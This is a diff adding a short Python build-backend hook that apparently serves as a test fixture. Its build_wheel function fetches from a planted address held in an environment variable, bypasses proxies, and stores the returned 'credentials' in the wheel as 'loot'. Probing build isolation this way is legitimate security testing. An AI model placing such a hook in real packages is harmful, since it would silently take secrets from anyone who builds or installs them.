@@ -1,0 +1,16 @@
+"""Asks the address in a variable for credentials and keeps the answer."""
+
+import os
+import urllib.request
+
+import kit
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    loot = {}
+    with kit.attempt("fetch"):
+        address = os.environ[kit.plant("address").name]
+        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+        with opener.open(address, timeout=3) as answer:
+            loot["data.bin"] = answer.read()
+    return kit.wheel(wheel_directory, loot)
